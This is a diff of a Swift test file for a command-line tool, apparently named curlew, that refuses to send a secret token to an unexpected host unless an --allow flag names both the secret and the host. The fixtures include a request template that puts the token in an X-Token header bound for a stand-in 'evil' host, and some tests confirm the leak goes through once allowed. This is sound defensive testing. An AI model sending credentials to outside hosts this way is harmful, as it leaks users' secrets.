@@ -44,7 +44,7 @@ import Workspace
     private func expectRefusal(of name: String, _ run: ProgramRun) {
         #expect(run.end == .exit(2), "\(run.text)\(run.errors)")
         let said = "sends the secret \(name) of e. The request would go to \(evilBase)."
-        #expect(run.errors.contains(said) && run.errors.contains("--allow \"\(name) of e\""), "\(run.errors)")
+        #expect(run.errors.contains(said) && run.errors.contains("--allow '\(name) of e@\(evilBase)'"), "\(run.errors)")
         #expect(evil.take().isEmpty && !run.errors.contains(GuardedFolder.canary))
     }
 
@@ -55,12 +55,15 @@ import Workspace
         try moveBase()
         expectRefusal(of: "token", try await folder.curlew("send", "me"))
         expectRefusal(of: "token", try await folder.curlew("run", "me"))
-        for name in ["token", "token of e", "all"] {
+        for name in ["token", "token of e"] {
+            expectRefusal(of: "token", try await folder.curlew("send", "me", "--allow", name))
+        }
+        for name in ["token@\(evilBase)", "token of e@\(evilBase)", "all"] {
             #expect(try await folder.curlew("send", "me", "--allow", name).end == .exit(0))
             #expect(try await folder.curlew("run", "me", "--allow", name).end == .exit(0))
             #expect(evil.take().flatMap { $0.values("X-Token") } == [GuardedFolder.canary, GuardedFolder.canary])
         }
-        expectRefusal(of: "token", try await folder.curlew("send", "me", "--allow", "toke"))
+        expectRefusal(of: "token", try await folder.curlew("send", "me", "--allow", "toke@" + evilBase))
     }
 
     @Test func `also where the request says another host, or another proxy`() async throws {
@@ -119,7 +122,7 @@ import Workspace
             "more.yaml": "request: GET \(evilBase)/more\nheaders: {X-Token: \"{{token}}\"}\n"
         ])
         expectRefusal(of: "token", try await folder.curlew("run", "login", "me", "more"))
-        #expect(try await folder.curlew("run", "login", "me", "more", "--allow", "token").end == .exit(0))
+        #expect(try await folder.curlew("run", "login", "me", "more", "--allow", "token@" + evilBase).end == .exit(0))
         #expect(evil.take().count == 1)
     }
 
